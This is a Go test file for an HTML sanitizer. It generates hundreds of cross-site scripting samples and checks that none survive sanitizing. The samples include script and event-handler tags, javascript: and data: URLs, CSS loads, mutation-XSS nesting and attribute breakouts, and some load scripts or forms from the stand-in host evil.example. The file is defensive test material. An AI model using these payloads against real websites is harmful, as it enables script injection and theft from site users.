package sanitize_test

import (
	"fmt"
	"html"
	"slices"
	"strings"
	"testing"

	"marquee/internal/sanitize"
)

// hostile are samples of everything that runs, loads or leads astray, made of
// what does it, how it is written, and what it stands in.
func hostile() []string {
	all := slices.Concat(scripts(), handlers(), addresses(), styles(), nested(), breakouts(), mutations())
	for _, run := range scripts()[:8] { // what a browser reads differently the second time
		for _, open := range contexts() {
			all = append(all, open+run, open+"<p title=\""+html.EscapeString(run)+"\">", open+"<a title='"+strings.ReplaceAll(run, "'", "")+"'>")
		}
	}
	return all
}

// scripts are elements that run a script, or bring one.
func scripts() []string {
	return []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<math><mtext><script>alert(1)</script></mtext></math>`,
		`</style><script>alert(1)</script>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/src=//evil.example/x.js></script>`, "<script\n>alert(1)</script\n>", `<script x>alert(1)</script y>`,
		`<<script>alert(1);//<</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, "<scr\x00ipt>alert(1)</scr\x00ipt>", `<script>alert(1)`,
		`<script type=module>alert(1)</script>`, `<script type=text/vbscript>alert(1)</script>`, `<script language=javascript>alert(1)</script>`,
		`<xml:script>alert(1)</xml:script>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<?xml version="1.0"?><script>alert(1)</script>`,
		`<![CDATA[<script>alert(1)</script>]]>`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<!--><script>alert(1)</script>`, `<!-- --!><script>alert(1)</script>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `＜script＞alert(1)＜/script＞`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
		`<embed src=//evil.example/x.swf>`, `<object data=//evil.example/x.swf></object>`, `<applet code=x.class></applet>`, `<portal src=//evil.example>`,
		`<template><script>alert(1)</script></template>`, `<template shadowrootmode=open><script>alert(1)</script></template>`, `<noscript><script>alert(1)</script></noscript>`,
		`<form action=//evil.example><input name=q><button>go</button></form>`, `<isindex action=javascript:alert(1)>`, `<keygen autofocus onfocus=alert(1)>`,
		`<frameset onload=alert(1)><frame src=//evil.example></frameset>`, `<layer src=//evil.example></layer>`, `<bgsound src=javascript:alert(1)>`, `<xss onclick=alert(1) tabindex=1>x</xss>`,
		`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv="Refresh" content="0; URL=//evil.example">`, `<meta charset=utf-7>`, `<meta name=referrer content=unsafe-url>`,
		`<base href=//evil.example/><a href=x>a</a><img src=y>`, `<base target=_top>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=//evil.example>`,
		`<link rel=preload as=script href=//evil.example/x.js>`, `<link rel="prefetch dns-prefetch" href=//evil.example>`, `<title>x</title><body onload=alert(1)>`, `<html onclick=alert(1)>`,
		`<video><source onerror=alert(1) src=x></video>`, `<audio src=x onerror=alert(1)>`, `<picture><source srcset=x onerror=alert(1)><img src=x></picture>`, `<track src=//evil.example>`,
		`<details open ontoggle=alert(1)>x</details>`, `<dialog open onclose=alert(1)>x</dialog>`, `<marquee onstart=alert(1)>x</marquee>`, `<canvas onclick=alert(1)></canvas>`,
		`<select autofocus onfocus=alert(1)><option>x</select>`, `<textarea autofocus onfocus=alert(1)></textarea>`, `<input autofocus onfocus=alert(1)>`, `<button popovertarget=x onclick=alert(1)>x</button>`,
		`<a href=x ping=//evil.example>a</a>`, `<a href=x target=_blank rel=opener>a</a>`, `<a download href=x>a</a>`, `<img src=x usemap=#m><map name=m><area href=javascript:alert(1) coords=0,0,9,9></map>`,
	}
}

// handlers are event handlers in tags that stay, as sloppily as browsers take it.
func handlers() []string {
	var all []string
	for event := range strings.FieldsSeq("onclick onload onerror onmouseover onfocus ontoggle onpointerenter onanimationstart onbeforematch onwheel oncopy onscrollend FORMACTION ONCLICK oNeRrOr on\x00click onclick\u00a0 onxyz") {
		for _, form := range []string{
			`<p %s=alert(1)>a</p>`, `<p %s="alert(1)">a</p>`, `<p %s='alert(1)'>a</p>`, `<p/%s=alert(1)>a</p>`, "<p\t%s\t=\talert(1)>a</p>", "<p\n%s\n=\nalert(1)\n>a</p>",
			`<p title="x"%s=alert(1)>a</p>`, `<img src=x %s=alert(1)>`, "<img src=x` `%s=alert(1)>", `<a href="x" %s=&#97;lert(1)>a</a>`, `<td %s=alert(1)>a</td>`, `<p x:%s=alert(1)>a</p>`,
		} {
			all = append(all, fmt.Sprintf(form, event))
		}
	}
	return all
}

// addresses are ways to write a scheme that runs something, and where it counts.
func addresses() []string {
	var all []string
	for _, address := range []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)", "\x01javascript:alert(1)",
		"javascript\t:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
		"java&#0;script:alert(1)", "\u2028javascript:alert(1)", "\u00a0javascript:alert(1)", "javascript://%0aalert(1)", "javascript:javascript:alert(1)", "jav&#x0A;ascript:alert(1)", "feed:javascript:alert(1)",
		"vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=alert(1)>",
		"view-source:javascript:alert(1)", "blob:https://evil.example/x", "filesystem:https://evil.example/x", "file:///etc/passwd", "intent://evil.example#Intent;scheme=http;end", "about:blank", "jar:https://evil.example!/x",
		"%6Aavascript:alert(1)", "//javascript:alert(1)", "http:javascript:alert(1)", "https:///javascript:alert(1)", "\\\\evil.example\\x",
	} {
		for _, form := range []string{`<a href="%s">a</a>`, `<a href='%s'>a</a>`, `<img src="%s">`} {
			all = append(all, fmt.Sprintf(form, address))
		}
	}
	for form := range strings.SplitSeq(`<area href="%s">|<form action="%s">x</form>|<button formaction="%s">x</button>|<input type=image src="%s">|<iframe src="%s"></iframe>|<object data="%s"></object>|`+
		`<embed src="%s">|<video src="%s" poster="%s">x</video>|<audio src="%s">x</audio>|<source srcset="%s">|<img srcset="%s 1x" src=x>|<img lowsrc="%s" dynsrc="%s" src=x>|<link href="%s" rel=stylesheet>|<base href="%s">|`+
		`<svg><a xlink:href="%s"><text>x</text></a></svg>|<svg><use href="%s"/></svg>|<svg><image href="%s"/></svg>|<svg><set attributeName=href to="%s"/></svg>|<math href="%s">x</math>|<math><maction xlink:href="%s">x</maction></math>|`+
		`<body background="%s">|<table background="%s"><td background="%s">x</table>|<blockquote cite="%s">x</blockquote>|<q cite="%s">x</q>|<a ping="%s" href=x>x</a>|<meta http-equiv=refresh content="0;url=%s">|`+
		`<frame src="%s">|<applet codebase="%s">x</applet>|<html manifest="%s">|<script src="%s"></script>|<p style="background:url(%s)">x</p>|<xml src="%s">|<import src="%s">`, "|") {
		for _, address := range []string{"javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/x"} {
			all = append(all, strings.ReplaceAll(form, "%s", address))
		}
	}
	return all
}

// styles load and cover things.
func styles() []string {
	var all []string
	for _, css := range []string{
		`background:url(//evil.example/x)`, `background:url(javascript:alert(1))`, `width:expression(alert(1))`, `width:e/**/xpression(alert(1))`, `-moz-binding:url(//evil.example/x.xml#x)`, `behavior:url(x.htc)`,
		`position:fixed;inset:0;z-index:9`, `@import '//evil.example/x.css'`, `\62 ackground:url(//evil.example/x)`, `list-style-image:url(//evil.example/x)`, `cursor:url(//evil.example/x),auto`, `content:url(//evil.example/x)`,
		`display:none`, `font-family:'</style><script>alert(1)</script>'`, `animation:x 1s`, `color:red;}body{background:url(//evil.example/x)`,
	} {
		all = append(all, `<p style="`+css+`">a</p>`, `<style>p{`+css+`}</style><p>a</p>`, `<svg><style>p{`+css+`}</style></svg>`)
	}
	return all
}

// contexts are beginnings behind which a browser reads on by other rules.
func contexts() []string {
	return []string{
		"<noscript>", "<style>", "<svg>", "<svg><style>", "<svg><desc>", "<svg><foreignObject>", "<svg></p>", "<math>", "<math><mi>", "<math><annotation-xml encoding=text/html>", "<math><mtext><table><mglyph><style>",
		"<form><math><mtext></form><form><mglyph><svg><mtext><style>", "<select>", "<select><option>", "<textarea>", "<title>", "<xmp>", "<iframe>", "<noembed>", "<noframes>", "<plaintext>", "<template>", "<table>", "<table><caption><svg>",
		"<table><tr><td><p>", "<!--", "<!-- --", "<![CDATA[", "<?", "<!x", "<a href=\"", "<img alt='", "<p title=`", "<option><style>", "<svg><title><a id=\"</title>", "<math><style><!--</style>",
		"<svg><![CDATA[</svg>", "<object><noscript>", "<frameset><noframes>", "<listing>", "<dir><menu>", "<ruby><rt><rp>", "<b><i><u><s>", "<a><table><a>",
	}
}

// nested are ways to lie in each other that trees are built anew from.
func nested() []string {
	return []string{
		`<svg><p><style><img src="</style><img src=x onerror=alert(1)//">`, `<math><p><style><img src="</style><img src=x onerror=alert(1)//">`, `<svg><b><style><img src="</style><img src=x onerror=alert(1)//">`,
		`<form><form><math><mtext></form></form><mglyph><style></math><img src onerror=alert(1)>`, `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>`,
		`<table><td><svg><desc><td></desc></svg><td><style><a title="</style><img src onerror=alert(1)>">`, `<noscript><style></noscript><img src=x onerror=alert(1)></style>`,
		`<select><keygen><img src=x onerror=alert(1)></select>`, `<select><template><img src=x onerror=alert(1)></template></select>`, `<svg><title><svg><style><img src="</style><img src=x onerror=alert(1)>">`,
		`<a><div><a><img src=x onerror=alert(1)></a></div></a>`, `<p><table><p><img src=x onerror=alert(1)></table>`, `<b><p><b><p><b><img src=x onerror=alert(1)>`, `<ruby><rp><style></rp><img src=x onerror=alert(1)></style>`,
		`<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">`, `<math><annotation-xml encoding="text/html"><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	}
}

// breakouts leave an attribute, a comment or a reference.
func breakouts() []string {
	var all []string
	for _, out := range []string{`"`, `'`, "`", `">`, `'>`, "`>", `"/>`, `" `, `&quot;`, `&#34;`, `&gt;`, `\"`, `-->`, `]]>`, `</p>`, `%22%3E`} {
		for _, form := range []string{`<p title="%s<img src=x onerror=alert(1)>">a</p>`, `<img src=x alt='%s<img src=x onerror=alert(1)>'>`, `<img src="x%s onerror=alert(1)">`, `<a href="http://a.example/%s onclick=alert(1) x=">a</a>`} {
			all = append(all, fmt.Sprintf(form, out))
		}
	}
	return all
}

// Nothing active is left of any of them, by themselves or among other text, and
// what is left is final.
func TestHostileMatrix(t *testing.T) {
	t.Parallel()
	samples := hostile()
	if len(samples) < 750 {
		t.Fatalf("only %d samples", len(samples))
	}
	for _, sample := range samples {
		for _, untrusted := range []string{sample, "<p>before " + sample + " after</p>", "<table><tr><td>" + sample, "<ul><li>" + sample + "</ul>"} {
			check(t, untrusted, base)
			clean := sanitize.HTML(untrusted, base)
			// Once more as a browser reads it that takes it for something else.
			check(t, html.UnescapeString(clean), base)
			check(t, "<svg>"+clean+"</svg>"+clean, base)
		}
		if title := sanitize.Title(sample); strings.ContainsAny(title, "\r\n\x00") {
			t.Errorf("Title(%q) = %q", sample, title)
		}
	}
}
